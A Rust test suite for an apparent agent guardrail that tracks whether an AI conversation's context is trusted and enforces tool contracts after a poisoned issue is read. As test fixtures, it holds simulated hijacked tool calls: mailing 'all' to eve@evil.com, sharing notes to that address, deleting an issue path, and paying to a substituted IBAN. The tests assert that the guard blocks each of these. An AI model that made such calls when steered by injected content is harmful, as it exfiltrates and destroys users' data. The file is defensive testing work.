//! What a poisoned issue can and cannot do.

use doorward_core::{Integrity, ModelEvent};
use doorward_guardrails::UserRole;

use crate::driver::{CONTRACTS, Chat, EVIL, World, issue};

const MAIL: &str = "mcp__doorward__mail__send_email";
const TO_EVE: &str = r#"{"recipients":["eve@evil.com"],"body":"all"}"#;
const TO_BOB: &str = r#"{"recipients":["bob@corp.com"],"body":"all"}"#;

#[test]
fn a_clean_conversation_may_do_everything() {
    let world = World::new();
    let mut chat = world.chat();
    chat.user("Mail carol about the picnic");
    let answered = chat.model("", &[("c1", MAIL, r#"{"recipients":["carol@corp.com"]}"#)]);
    assert!(answered.admission.hidden.is_empty());
    assert_eq!(&*answered.decision("mail__send_email").rule, "contract.context");
    let verdict =
        world.judge(&chat.cx(), "mail__send_email", r#"{"recipients":["carol@corp.com"]}"#);
    assert_eq!(&*verdict.decision.rule, "grant");
    assert_eq!(verdict.turn, Some(answered.admission.turn));
    assert_eq!(verdict.conversation, Some(answered.admission.conversation));
    assert_eq!(verdict.cause, Some(answered.cx.request));
    assert!(verdict.grant.is_some());
}

#[test]
fn a_poisoned_issue_hides_and_stops_what_it_may_not_steer() {
    let world = World::new();
    let mut chat = Chat::poisoned(&world);
    let answered = chat.model(
        "On it.",
        &[
            ("c2", MAIL, TO_EVE),
            ("c3", "tracker__get_issue", r#"{"id":4712}"#),
            ("c4", "local_delete", r#"{"path":"/srv/issues/4711"}"#),
            ("c5", MAIL, TO_BOB),
        ],
    );
    // Hidden from the model, though a hijacked one names it all the same.
    assert_eq!(answered.admission.hidden, [MAIL, "note__share", "local_delete", "free__tool"]);
    assert!(answered.call.tools.iter().any(|tool| tool.name == MAIL && tool.hidden));
    assert!(
        answered.call.tools.iter().any(|tool| tool.name == "tracker__get_issue" && !tool.hidden)
    );
    // Reading goes on; the user's own recipient is the user's.
    let rules: Vec<&str> = answered.decisions.iter().map(|(_, d)| &*d.rule).collect();
    assert_eq!(
        rules,
        ["contract.control", "contract.read", "contract.control", "contract.provenance"]
    );
    // The client's own tool is replaced, under the same id; the siblings go on as they were.
    let calls = answered.calls();
    let names: Vec<(&str, &str)> =
        calls.iter().map(|(id, name, _)| (id.as_str(), name.as_str())).collect();
    assert_eq!(
        names,
        [("c2", MAIL), ("c3", "tracker__get_issue"), ("c4", "doorward__denied"), ("c5", MAIL)]
    );
    let told: serde_json::Value = serde_json::from_str(&calls[2].2).unwrap();
    assert_eq!(told["tool"], "local_delete");
    assert!(told["reason"].as_str().unwrap().contains("`tracker__get_issue`"));
    assert!(!told["remedies"].as_array().unwrap().is_empty());
    // At the broker: refused with the same reason, again and again; the others run once.
    for _ in 0..2 {
        let refused = world.judge(&chat.cx(), "mail__send_email", TO_EVE);
        assert_eq!(&*refused.decision.rule, "contract.control");
        assert!(refused.decision.reason.contains("`/recipients`"), "{}", refused.decision.reason);
        assert!(!refused.decision.reason.contains("eve"));
        assert_eq!(refused.turn, Some(answered.admission.turn));
    }
    assert!(world.judge(&chat.cx(), "tracker__get_issue", r#"{"id":4712}"#).decision.is_allowed());
    assert!(world.judge(&chat.cx(), "mail__send_email", TO_BOB).decision.is_allowed());
    assert!(!world.judge(&chat.cx(), "mail__send_email", TO_BOB).decision.is_allowed());
}

#[test]
fn the_turn_goes_on_and_a_new_question_begins_a_new_one() {
    let world = World::new();
    let mut chat = world.chat();
    chat.user("Summarise issue 4711");
    let first = chat.model("", &[("c1", "tracker__get_issue", r#"{"id":4711}"#)]).admission;
    world.run(&chat.cx(), "tracker__get_issue", r#"{"id":4711}"#, &issue(EVIL));
    chat.result("c1", &issue(EVIL));
    let second = chat.model("Done.", &[]).admission;
    assert_eq!((first.turn, first.conversation), (second.turn, second.conversation));
    assert!(first.label.is_trusted() && !second.label.is_trusted());
    chat.user("And now?");
    let third = chat.model("Well.", &[]).admission;
    assert_eq!(third.conversation, first.conversation);
    assert_ne!(third.turn, first.turn);
    assert!(!third.label.is_trusted());
}

#[test]
fn equal_beginnings_are_no_proof_of_one_conversation() {
    let world = World::new();
    let mut chats = [world.chat(), world.chat()];
    let ids = chats.each_mut().map(|chat| {
        chat.user("Good morning");
        chat.model("Hello.", &[]).admission.conversation
    });
    assert_ne!(ids[0], ids[1]);
}

#[test]
fn a_result_without_its_untrusted_field_keeps_trust() {
    let world = World::new();
    for (result, trusted) in [
        (r#"{"id":4711,"title":"Broken login"}"#, true),
        (r#"{"id":4711,"body":""}"#, true),
        (r#"{"id":4711,"body":"hello"}"#, false),
        ("no JSON", false),
    ] {
        let mut chat = world.chat();
        chat.user("Summarise the issue");
        chat.tool("c1", "tracker__get_issue", r#"{"id":4711}"#, result);
        let label = chat.label();
        assert_eq!(label.is_trusted(), trusted, "{result}");
        assert_eq!(label.integrity == Integrity::Trusted, trusted, "{result}");
    }
}

#[test]
fn trusted_values_pass_where_the_contract_lets_anyone_choose_among_them() {
    let world = World::new();
    let mut chat = world.chat();
    chat.user("Share the notes with somebody fitting");
    chat.tool("c1", "crm__list", "{}", r#"[{"mail":"dan@corp.com"},{"mail":"fay@corp.com"}]"#);
    chat.tool("c2", "tracker__get_issue", r#"{"id":4711}"#, &issue(EVIL));
    let share = |to: &str| format!(r#"{{"to":"{to}","text":"x"}}"#);
    let answered = chat.model(
        "",
        &[
            ("c3", "note__share", &share("fay@corp.com")),
            ("c4", "mcp__doorward__note__share", &share("eve@evil.com")),
            ("c5", MAIL, r#"{"recipients":["fay@corp.com"]}"#),
        ],
    );
    let rules: Vec<&str> = answered.decisions.iter().map(|(_, d)| &*d.rule).collect();
    // A trusted address, chosen by whoever steers the model: enough for one contract only.
    assert_eq!(rules, ["contract.provenance", "contract.control", "contract.choice"]);
    // The same values lend nothing to another conversation.
    let mut other = world.chat();
    other.user("Read issue 4711");
    other.tool("d1", "tracker__get_issue", r#"{"id":4711}"#, &issue(EVIL));
    let answered = other.model("", &[("d2", "note__share", &share("fay@corp.com"))]);
    assert_eq!(&*answered.decision("note__share").rule, "contract.control");
}

#[test]
fn a_commitment_needs_every_controlling_argument_from_the_user() {
    let world = World::new();
    let mut chat = world.chat();
    chat.user("Pay 1,250.00 to DE89 3704 0044 0532 0130 00, see issue 4711");
    chat.tool("c1", "tracker__get_issue", r#"{"id":4711}"#, &issue(EVIL));
    for (arguments, rule) in [
        (r#"{"iban":"DE89370400440532013000","amount":1250,"memo":"x"}"#, "contract.provenance"),
        (r#"{"iban":"DE89370400440532013000","amount":12500}"#, "contract.control"),
        (r#"{"iban":"DE89370400440532013000"}"#, "contract.control"),
        (r#"{"iban":"DE89370400440532013000","amount":1250,"urgent":true}"#, "contract.control"),
        (r#"{"iban":"GB82WEST12345698765432","amount":1250}"#, "contract.control"),
        ("{}", "contract.control"),
        (r#"{"iban":"DE89370400440532013000","iban":"x","amount":1250}"#, "contract.arguments"),
    ] {
        let answered = chat.answer(
            crate::driver::events("", &[("c9", "bank__pay", arguments)])
                .into_iter()
                .map(|event| doorward_core::Frame::of(vec![event])),
        );
        assert!(!answered.admission.hidden.contains(&"bank__pay".to_owned()), "hide = false");
        assert_eq!(&*answered.decision("bank__pay").rule, rule, "{arguments}");
    }
}

#[test]
fn a_clients_own_tool_is_labelled_by_its_contract() {
    let world = World::new();
    for (tool, result, trusted) in [
        ("local_read", r#"{"file":"notes"}"#, true),
        ("local_read", r#"{"file":"notes","web":"evil"}"#, false),
        ("local_other", r#"{"file":"notes"}"#, false),
    ] {
        let mut chat = world.chat();
        chat.user("Look at my notes");
        chat.model("", &[("c1", tool, "{}")]);
        chat.result("c1", result);
        assert_eq!(chat.label().is_trusted(), trusted, "{tool} {result}");
    }
}

#[test]
fn an_undeclared_tool_is_refused_once_the_context_is_untrusted() {
    let world = World::new();
    let mut chat = Chat::poisoned(&world);
    chat.tools.lock().unwrap().retain(|name| name != "local_read");
    let answered = chat.model("", &[("c2", "local_read", "{}")]);
    assert_eq!(&*answered.decision("local_read").rule, "contract.undeclared");
    assert_eq!(answered.calls()[0].1, "doorward__denied");
}

#[test]
fn a_system_prompt_that_changes_does_not_break_recognition() {
    let world = World::new();
    let mut chat = world.chat();
    chat.system("It is 10:00.").user("Hello");
    let first = chat.model("Hi.", &[]).admission;
    chat.messages[0] = doorward_core::Message::text(doorward_core::Role::System, "It is 10:05.");
    chat.user("How are you?");
    let second = chat.model("Fine.", &[]).admission;
    assert_eq!(first.conversation, second.conversation);
    assert!(second.label.is_trusted());
}

#[test]
fn strangers_texts_in_the_users_name_are_untrusted_where_configured() {
    let world = World::with(CONTRACTS, UserRole::Untrusted);
    let mut chat = world.chat();
    chat.user("Mail bob@corp.com");
    let answered = chat.model("", &[("c1", MAIL, TO_BOB)]);
    assert!(!answered.decision("mail__send_email").is_allowed());
}

#[test]
fn replaced_contracts_hold_from_the_next_request() {
    let world = World::new();
    let mut chat = Chat::poisoned(&world);
    world.engine.replace(crate::driver::compile(
        "[[contract]]\ntool='mail__*'\neffect='write'\ncontrol=['/recipients']\ncontent=['/body']\n\
         requires={control='untrusted',choice='untrusted'}",
    ));
    let answered = chat.model("", &[("c2", MAIL, TO_EVE)]);
    assert_eq!(&*answered.decision("mail__send_email").rule, "contract.context");
}

#[test]
fn a_refusals_own_words_taint_nothing() {
    let world = World::with(
        "[[contract]]\ntool='mail__send_email'\neffect='egress'\ncontrol=['/recipients']\n\
         requires={control='user'}\n[[contract]]\ntool='crm__list'\neffect='read'\n\
         result={integrity='trusted'}",
        UserRole::Trusted,
    );
    let mut chat = world.chat();
    chat.user("Mail everybody in the list");
    chat.tool("c1", "crm__list", "{}", r#"["dan@corp.com"]"#);
    let to = r#"{"recipients":["dan@corp.com"]}"#;
    let verdict = chat.tool("c2", MAIL, to, "Refused: name the recipient yourself.");
    assert_eq!(&*verdict.decision.rule, "contract.control");
    assert!(chat.label().is_trusted());
    chat.user("dan@corp.com it is");
    let verdict = chat.tool("c3", MAIL, to, "sent");
    assert_eq!(&*verdict.decision.rule, "grant", "the user's word lifts the refusal");
}

#[test]
fn reasoning_is_never_altered() {
    let world = World::new();
    let chat = Chat::poisoned(&world);
    let mut events = crate::driver::events("", &[("c2", "local_delete", r#"{"path":"/x"}"#)]);
    let thought = [
        ModelEvent::Reasoning { choice: 0, text: "hm".into() },
        ModelEvent::ReasoningSignature { state: issued("sig") },
        ModelEvent::RedactedReasoning { state: issued("red") },
    ];
    events.splice(1..1, thought.clone());
    let answered = chat.answer(std::iter::once(doorward_core::Frame::of(events.clone())));
    assert_eq!(answered.sent[1..4], thought);
    assert_eq!(answered.calls()[0].1, "doorward__denied");
    assert_eq!(answered.sent.last(), events.last());
}

fn issued(data: &str) -> doorward_core::IssuerState {
    let issuer = doorward_core::DialectId::ANTHROPIC_MESSAGES;
    doorward_core::IssuerState { issuer, data: data.to_owned() }
}
